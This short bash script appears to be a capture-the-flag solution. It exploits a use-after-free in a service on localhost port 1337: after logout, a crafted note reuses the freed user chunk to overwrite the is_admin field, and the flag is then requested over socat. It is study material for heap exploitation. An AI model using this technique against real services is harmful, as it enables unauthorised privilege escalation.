#!/bin/bash
# logout frees the 28-byte user but keeps the pointer; the next 32-byte note reuses the same chunk,
# so note bytes 24..27 become user->is_admin.
printf 'login bob\nlogout\nnote AAAAAAAAAAAAAAAAAAAAAAAA1111\nflag\nquit\n' | socat -t5 - TCP:127.0.0.1:1337
